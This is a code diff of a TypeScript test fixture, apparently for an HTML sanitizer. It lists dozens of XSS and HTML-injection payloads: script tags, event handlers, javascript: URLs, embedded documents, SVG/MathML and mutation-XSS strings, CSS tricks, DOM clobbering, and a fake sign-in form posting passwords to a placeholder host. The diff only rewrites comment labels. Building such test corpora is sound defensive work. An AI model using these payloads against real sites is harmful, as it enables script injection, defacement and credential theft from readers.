@@ -1,11 +1,11 @@
 const LINE_SEPARATOR = '\u2028';
 
 /**
- * What somebody would write who wants to run a script on the page (`pwned()`), to change it beyond their article or to
- * send its readers away. Each by itself, as an editor pastes it or a program posts it.
+ * HTML that tries to run a script (`pwned()`), to change the page outside of the article, or to send readers to another
+ * site. Each entry is independent, as an editor would paste it or a client would post it.
  */
 export const HOSTILE_HTML: readonly string[] = [
-  // scripts and what loads them
+  // Scripts and elements that load them
   '<script>pwned()</script>',
   '<SCRIPT SRC=/pwned.js></SCRIPT>',
   '<script/src=data:,pwned()></script>',
@@ -19,7 +19,7 @@ export const HOSTILE_HTML: readonly string[] = [
   '<meta http-equiv=refresh content="0;url=/pwned">',
   '<meta http-equiv="Content-Security-Policy" content="default-src *">',
 
-  // handlers
+  // Event handlers
   '<img src=x onerror=pwned()>',
   '<img src=x onerror\u000d=pwned()>',
   '<img src="x" OnErRoR="pwned()">',
@@ -41,7 +41,7 @@ export const HOSTILE_HTML: readonly string[] = [
   '<p style="animation:x" onanimationstart=pwned()>a</p>',
   '<a href="https://x.invalid/" onbeforetoggle=pwned() popovertarget=x>a</a>',
 
-  // addresses
+  // URLs
   '<a href="javascript:pwned()">a</a>',
   '<a href="JaVaScRiPt:pwned()">a</a>',
   '<a href=" javascript:pwned()">a</a>',
@@ -69,7 +69,7 @@ export const HOSTILE_HTML: readonly string[] = [
   '<table background="javascript:pwned()"><tr><td background=javascript:pwned()>a</td></tr></table>',
   '<picture><source srcset="x" onerror=pwned()><img src=x></picture>',
 
-  // other documents
+  // Embedded documents
   '<iframe src="javascript:pwned()"></iframe>',
   '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
   '<object data="data:text/html,<script>pwned()</script>"></object>',
@@ -81,7 +81,7 @@ export const HOSTILE_HTML: readonly string[] = [
   '<template><img src=x onerror=pwned()></template>',
   '<div><template shadowrootmode=open><script>pwned()</script></template></div>',
 
-  // drawings and formulas
+  // SVG and MathML
   '<svg onload=pwned()>',
   '<svg/onload=pwned()//',
   '<svg><script>pwned()</script></svg>',
@@ -93,7 +93,7 @@ export const HOSTILE_HTML: readonly string[] = [
   '<math href="javascript:pwned()">a</math>',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
 
-  // what is one thing when it is judged and another when it is read
+  // Mutation XSS: markup that parses differently a second time
   '<math><mtext><table><mglyph><style><math><img src=x onerror=pwned()></style></math>',
   '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
   '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
@@ -117,7 +117,7 @@ export const HOSTILE_HTML: readonly string[] = [
   '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
   '<a\u00a0href="javascript:pwned()">a</a>',
 
-  // styles
+  // Styles
   '<p style="background:url(javascript:pwned())">a</p>',
   '<p style="width:expression(pwned())">a</p>',
   '<p style="-moz-binding:url(/pwned.xml#x);behavior:url(/pwned.htc)">a</p>',
@@ -127,13 +127,13 @@ export const HOSTILE_HTML: readonly string[] = [
   '<span style="color:red;background:url(//x.invalid/)">a</span>',
   '<style>@import "/pwned.css";*{display:none}</style>',
 
-  // forms that ask readers for something
+  // Forms that ask readers for data
   '<form action="https://x.invalid/" method=post><input name=password type=password><button>Sign in</button></form>',
   '<form id=f></form><button form=f formaction="javascript:pwned()">a</button>',
   '<isindex action=javascript:pwned() type=image>',
   '<input type=image src=x formaction=javascript:pwned()>',
 
-  // names that scripts of the page go by
+  // DOM clobbering: names and attributes that scripts of the page use
   '<p id="comments" class="toasts" data-island="x">a</p>',
   '<img name=getElementById src=x><form name=body><input name=innerHTML></form>',
   '<a id=defaultView name=defaultView href="https://x.invalid/">a</a><a id=defaultView name=closed>b</a>',
